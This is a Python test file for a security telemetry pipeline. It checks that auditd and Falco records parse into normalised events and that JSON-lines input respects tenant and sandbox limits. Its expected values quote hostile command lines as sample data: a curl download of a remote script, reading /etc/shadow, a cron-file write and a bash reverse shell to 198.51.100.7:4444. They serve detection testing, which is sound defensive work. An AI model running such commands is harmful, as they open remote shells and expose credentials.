"""auditd and Falco samples map to the expected audit events."""

from __future__ import annotations

from pathlib import Path

import pytest

from pipeline.collect.sources import ParseError
from pipeline.collect.sources.auditd import WINDOW, AuditdParser
from pipeline.collect.sources.falco import FalcoParser
from pipeline.collect.sources.jsonl import JsonLinesParser

DATA = Path(__file__).parents[1] / "data"


def parse_all(parser: AuditdParser | FalcoParser, path: Path) -> tuple[list, list[int]]:
    events, bad = [], []
    for number, line in enumerate(path.read_bytes().splitlines(), start=1):
        try:
            events.extend(parser.feed(line))
        except ParseError:
            bad.append(number)
    events.extend(parser.finish())
    return events, bad


def test_auditd_records_join_into_mapped_events() -> None:
    events, bad = parse_all(AuditdParser(tenant="acme", sandbox_id="sb-42"), DATA / "auditd.log")
    assert bad == []
    summary = [(e["category"], e["action"], e["outcome"], e["object"]) for e in events]
    assert summary == [
        ("process", "exec", "success", "/usr/bin/curl"),
        ("file", "read", "denied", "/etc/shadow"),
        ("file", "write", "success", "/etc/cron.d/update"),
        ("network", "connect", "success", "198.51.100.7:4444"),
        ("permission", "chmod", "success", "/tmp/rootsh"),
        ("auth", "auth", "failure", "/usr/sbin/sshd"),
    ]
    exec_event = events[0]
    assert exec_event["ts"] == 1764324000101
    assert exec_event["event_id"] == "auditd:sb-42:1764324000101:4211"
    assert exec_event["actor"] == {
        "user": "runner",
        "uid": 1000,
        "pid": 2240,
        "ppid": 2211,
        "process": "curl",
        "cmdline": "curl -sO http://198.51.100.7/x.sh",
        "parent_process": "",  # its parent's exec is not in the log
        "parent_cmdline": "",
    }
    assert exec_event["attributes"]["auditd.key"] == "exec"
    assert exec_event["attributes"]["auditd.records"] == "SYSCALL,EXECVE,CWD,PATH,PATH,PROCTITLE"
    assert events[1]["level"] == "warning"
    assert events[1]["actor"]["cmdline"] == "cat /etc/shadow"  # from the hex PROCTITLE
    assert events[3]["actor"]["cmdline"] == "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
    assert events[4]["attributes"]["auditd.a1"] == "9ed"  # syscall args stay as written
    assert events[5]["actor"]["user"] == "admin"
    assert events[5]["actor"]["uid"] == 0


def test_auditd_rejects_other_lines_and_goes_on() -> None:
    parser = AuditdParser(tenant="t", sandbox_id="s")
    with pytest.raises(ParseError, match="not an auditd record"):
        parser.feed(b"Nov 28 10:00:00 host sshd[1]: Accepted publickey")
    # A user-space record is a whole event: out at once, nothing held.
    line = b"type=USER_LOGIN msg=audit(1795860000.5:9): pid=1 uid=0 res=success"
    (event,) = parser.feed(line)
    assert (event["category"], event["action"], event["outcome"]) == ("auth", "login", "success")
    assert parser.held_since is None and parser.finish() == []


def _record(kind: str, serial: int, body: str, arch: str = "c000003e") -> bytes:
    fields = f"arch={arch} {body}" if kind == "SYSCALL" else body
    return f"type={kind} msg=audit(1795860000.{serial:03d}:{serial}): {fields}".encode()


def test_auditd_interleaved_records_join_their_own_events() -> None:
    """The kernel may interleave two events' records (seen in real logs: a PATH of event
    60 after the SYSCALL of event 61). Joined by serial, not by adjacency."""
    parser = AuditdParser(tenant="t", sandbox_id="s")
    lines = [
        _record("SYSCALL", 60, 'syscall=2 success=yes exit=3 a1=0 pid=7 comm="cat"'),
        _record("SYSCALL", 61, 'syscall=42 success=yes exit=0 pid=8 comm="nc"'),
        _record("PATH", 60, 'item=0 name="/etc/shadow" nametype=NORMAL'),
        _record("SOCKADDR", 61, "saddr=0200115CC63364070000000000000000"),
        _record("EOE", 61, ""),
        _record("EOE", 60, ""),
    ]
    out = [e for line in lines for e in parser.feed(line)]
    assert [(e["action"], e["object"]) for e in out] == [
        ("connect", "198.51.100.7:4444"),  # 61 ended first
        ("read", "/etc/shadow"),  # 60 kept its late PATH
    ]
    assert parser.held_since is None


def test_auditd_holds_its_resume_point_at_the_oldest_open_event() -> None:
    parser = AuditdParser(tenant="t", sandbox_id="s")
    parser.feed(_record("SYSCALL", 70, 'syscall=59 success=yes exit=0 pid=9 exe="/bin/ls"'))
    parser.feed(_record("SYSCALL", 71, 'syscall=59 success=yes exit=0 pid=10 exe="/bin/id"'))
    assert parser.held_since == 1  # event 70 began at the first line fed
    parser.feed(_record("EOE", 70, ""))
    assert parser.held_since == 2
    assert [e["object"] for e in parser.finish()] == ["/bin/id"]


def test_auditd_events_without_eoe_leave_after_the_window() -> None:
    """Older kernels write no EOE: an event is complete once WINDOW newer ones began."""
    parser = AuditdParser(tenant="t", sandbox_id="s")
    out = []
    for serial in range(1, WINDOW + 3):
        out += parser.feed(
            _record("SYSCALL", serial, f"syscall=87 success=yes exit=0 pid={serial}")
        )
    assert [e["actor"]["pid"] for e in out] == [1, 2]
    assert len(parser.finish()) == WINDOW


def test_auditd_a_record_after_its_event_left_is_refused_with_its_reason() -> None:
    parser = AuditdParser(tenant="t", sandbox_id="s")
    parser.feed(_record("SYSCALL", 80, "syscall=87 success=yes exit=0 pid=1"))
    parser.feed(_record("EOE", 80, ""))
    with pytest.raises(ParseError, match="PATH record of audit event 80 came after"):
        parser.feed(_record("PATH", 80, 'item=0 name="/tmp/x"'))


@pytest.mark.parametrize(
    ("arch", "number", "action"),
    [
        ("c000003e", 59, "exec"),  # x86_64 execve
        ("c00000b7", 221, "exec"),  # arm64 execve
        ("c00000b7", 59, "pipe2"),  # 59 on arm64 is not execve
        ("c00000f3", 221, "exec"),  # riscv64: the generic table
        ("40000003", 11, "11"),  # i386: no table, the number stays
    ],
)
def test_auditd_syscall_numbers_are_read_by_architecture(
    arch: str, number: int, action: str
) -> None:
    parser = AuditdParser(tenant="t", sandbox_id="s")
    line = _record(
        "SYSCALL", 90, f'syscall={number} success=yes exit=0 pid=3 exe="/usr/bin/id"', arch
    )
    (event,) = parser.feed(line) + parser.finish()
    assert event["action"] == action


def test_falco_alerts_map_to_events() -> None:
    events, bad = parse_all(FalcoParser(tenant="acme", sandbox_id=None), DATA / "falco.jsonl")
    assert bad == [4]
    summary = [
        (e["sandbox_id"], e["category"], e["action"], e["level"], e["object"]) for e in events
    ]
    assert summary == [
        ("3ad7b26ded6d", "process", "exec", "notice", "/bin/bash"),
        ("3ad7b26ded6d", "file", "read", "warning", "/etc/shadow"),
        ("3ad7b26ded6d", "network", "connect", "critical", "198.51.100.7:4444"),
    ]
    assert [e["attributes"]["falco.evt.type"] for e in events] == ["execve", "openat", "connect"]
    shell = events[0]
    assert shell["ts"] == 1795860000123
    assert shell["actor"] == {
        "user": "root",
        "uid": 0,
        "pid": 4242,
        "ppid": 4200,
        "process": "bash",
        "cmdline": "bash -i",
        "parent_process": "",
        "parent_cmdline": "",
    }
    assert shell["attributes"]["falco.rule"] == "Terminal shell in container"
    assert shell["attributes"]["falco.tags"].endswith("T1059")
    assert shell["attributes"]["falco.user.loginuid"] == "-1"


def test_jsonl_fills_tenant_and_sandbox_from_config() -> None:
    parser = JsonLinesParser(tenant="acme", sandbox_id="sb-7")
    (event,) = parser.feed(b'{"category": "file", "action": "read", "object": "/x"}')
    assert (event["tenant"], event["sandbox_id"]) == ("acme", "sb-7")
    with pytest.raises(ParseError, match="category: 'x' is not one of"):
        parser.feed(b'{"category": "x", "action": "read"}')


def test_blank_lines_are_skipped_and_a_json_null_is_an_error() -> None:
    for parser in (
        JsonLinesParser(tenant="t", sandbox_id="s"),
        FalcoParser(tenant="t", sandbox_id=None),
    ):
        assert parser.feed(b"   ") == []
        with pytest.raises(ParseError):
            parser.feed(b"null")


@pytest.mark.parametrize(
    ("line", "field"),
    [
        (b'{"tenant": "globex", "category": "file", "action": "read"}', "tenant"),
        (b'{"sandbox_id": "sb-other", "category": "file", "action": "read"}', "sandbox_id"),
        (
            b'{"tenant": "acme", "sandbox_id": "sb-8", "category": "api", "action": "x"}',
            "sandbox_id",
        ),
    ],
)
def test_jsonl_rejects_a_line_that_claims_another_tenant_or_sandbox(
    line: bytes, field: str
) -> None:
    parser = JsonLinesParser(tenant="acme", sandbox_id="sb-7")
    with pytest.raises(ParseError, match=rf"^{field}: '.*' is not this collector's"):
        parser.feed(line)
    # The same values are the collector's own: accepted.
    own = b'{"tenant": "acme", "sandbox_id": "sb-7", "category": "file", "action": "read"}'
    assert parser.feed(own)[0]["tenant"] == "acme"


def test_a_trusted_relay_keeps_each_lines_tenant_and_sandbox() -> None:
    parser = JsonLinesParser(tenant="relay", sandbox_id="relay-host", trust_identity=True)
    (event,) = parser.feed(b'{"tenant": "globex", "sandbox_id": "sb-9", "category": "file", '
                           b'"action": "read"}')  # fmt: skip
    assert (event["tenant"], event["sandbox_id"]) == ("globex", "sb-9")
